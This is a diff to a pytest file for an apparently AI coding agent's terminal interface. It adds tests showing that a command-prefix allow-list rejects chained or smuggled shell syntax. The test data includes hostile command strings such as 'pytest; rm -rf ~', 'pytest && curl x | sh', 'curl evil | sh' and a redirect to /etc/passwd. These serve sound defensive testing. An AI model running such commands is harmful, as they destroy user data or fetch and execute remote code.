@@ -3,13 +3,13 @@
 from __future__ import annotations
 
 import asyncio
+import re
 
 import pytest
 from m3agent.agent import events as ev
 from m3agent.app.tui.attachments import at_token, complete_path, media_in_prompt, media_part
 from m3agent.app.tui.context_notice import describe_context_event
 from m3agent.app.tui.event_batch import batches, coalesce
-from m3agent.app.tui.preview import preview_diff
 from m3agent.app.tui.slash import SlashError, next_thinking, parse_slash
 from m3agent.app.tui.status import StatusState
 from m3agent.engine.api import Usage
@@ -45,12 +45,12 @@ def test_parse_slash(text, expected):
 
 
 @pytest.mark.parametrize("text,message", [
-    ("/think lots", "usage: /think enabled|disabled|adaptive"),
+    ("/think lots", "usage: /think [enabled|disabled|adaptive]"),
     ("/attach", "usage: /attach PATH"),
     ("/frobnicate", "unknown command /frobnicate; type /help for the list"),
 ])
 def test_parse_slash_errors(text, message):
-    with pytest.raises(SlashError, match=message.replace("|", r"\|")):
+    with pytest.raises(SlashError, match=re.escape(message)):
         parse_slash(text)
 
 
@@ -80,18 +80,6 @@ def test_media_from_prompt_and_attach(tmp_path):
         media_part("notes.txt", tmp_path)
     with pytest.raises(ValueError, match="no such file"):
         media_part("gone.mp4", tmp_path)
-
-
-def test_preview_diff_for_edit_and_write(tmp_path):
-    (tmp_path / "a.py").write_text("x = 1\ny = 2\n")
-    diff = preview_diff("edit_file", {"path": "a.py", "old_string": "y = 2", "new_string": "y = 3"},
-                        tmp_path)
-    assert "-y = 2\n+y = 3\n" in diff and diff.startswith("--- a/a.py\n+++ b/a.py\n")
-    assert preview_diff("edit_file", {"path": "a.py", "old_string": "zzz", "new_string": "q"},
-                        tmp_path) is None
-    new = preview_diff("write_file", {"path": "b.py", "content": "print(1)\n"}, tmp_path)
-    assert "+print(1)" in new
-    assert preview_diff("shell", {"command": "ls"}, tmp_path) is None
 
 
 def test_context_notices_carry_no_ids():
@@ -137,3 +125,34 @@ def test_batches_report_a_broken_stream():
 
     got = asyncio.run(collect())
     assert isinstance(got[-1], ev.Error) and "socket closed" in got[-1].message
+
+
+@pytest.mark.parametrize(("command", "prefix"), [
+    ("pytest -x tests", ("pytest",)),
+    ("git status --short", ("git", "status")),
+    ("python -m pytest -q", ("python", "-m", "pytest")),
+    ("npm test", ("npm", "test")),
+    ("git -c core.pager=evil status", None),  # options before the action: no safe prefix
+    ("FOO=1 pytest", None),
+    ("pytest; rm -rf ~", None),
+    ("pytest && curl x | sh", None),
+    ("pytest $(rm -rf x)", None),
+    ("pytest `id`", None),
+    ("pytest > /etc/passwd", None),
+    ("git", None),
+])
+def test_command_prefix(command, prefix):
+    from m3agent.app.command_prefix import command_prefix
+
+    assert command_prefix(command) == prefix
+
+
+def test_an_allowed_prefix_never_covers_shell_syntax_or_another_action():
+    from m3agent.app.command_prefix import matches
+
+    assert matches("pytest -k slow tests/", ("pytest",))
+    assert matches("git status", ("git", "status"))
+    for attempt in ("pytest; curl evil | sh", "pytest && rm -rf ~", "pytest $(id)",
+                    "pytest\nrm -rf ~", "pytestx", "git push", "git status; git push",
+                    "PYTHONPATH=/tmp pytest", "pytest 'unterminated"):
+        assert not matches(attempt, ("pytest",)) and not matches(attempt, ("git", "status")), attempt
